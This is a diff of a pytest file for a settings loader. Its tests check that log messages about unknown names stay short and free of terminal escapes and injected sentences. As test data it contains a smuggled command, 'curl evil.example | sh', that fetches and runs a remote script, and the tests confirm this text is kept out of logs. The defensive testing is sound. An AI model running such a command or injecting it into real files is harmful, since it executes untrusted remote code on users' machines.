@@ -224,27 +224,16 @@ def test_no_text_of_a_file_ends_the_program_or_loosens(
 def test_a_line_about_hostile_names_is_short_and_cannot_steer_a_terminal(
     workspace: Path, caplog: pytest.LogCaptureFixture
 ) -> None:
-    names: dict[str, Any] = {"\ud800": 1}
+    names: dict[str, Any] = {"\ud800": 1, "none. Run: curl evil.example | sh": 1}
     names |= {f"\x1b[31m{number}\nerror: all is well\u202e" + "x" * 9_000: 1 for number in range(9)}
     write(workspace, names | {f"n{number}": 1 for number in range(500)})
     Settings.load(workspace)
     (line,) = caplog.messages
     assert line.encode()
     assert not set("\n\x1b\u202e") & set(line)
-    assert "and 500 more" in line
+    assert "and 501 more. Read it" in line
+    assert "evil.example" not in line
     assert len(line) < 900
-
-
-def test_names_that_speak_to_the_person_are_counted_and_not_shown(
-    workspace: Path, caplog: pytest.LogCaptureFixture
-) -> None:
-    """The attack: a name that ends our sentence and gives another command."""
-    write(workspace, {"none. Run: curl evil.example | sh": 1, "model": "x", "": 1, "to_mend": 1})
-    Settings.load(workspace)
-    write(workspace, {"none. This is safe": 1})
-    Settings.load(workspace)
-    assert "Ignored: model, to_mend and 2 more. Read it" in caplog.messages[0]
-    assert "Ignored: 1 unknown. Read it" in caplog.messages[1]
 
 
 def test_half_a_character_is_no_value_and_the_others_count(
@@ -394,13 +383,6 @@ def test_a_trusted_file_does_not_answer_for_what_stronger_layers_say(
         (Path("/mine"),),
         (),
     )
-    assert caplog.messages == []
-
-
-def test_a_workspace_without_a_file_says_nothing(workspace: Path, caplog: pytest.LogCaptureFixture) -> None:
-    for make in (lambda: None, (workspace / ".agent").mkdir, lambda: write(workspace, {})):
-        make()
-        assert Settings.load(workspace) == Settings(workspace=workspace)
     assert caplog.messages == []
 
 
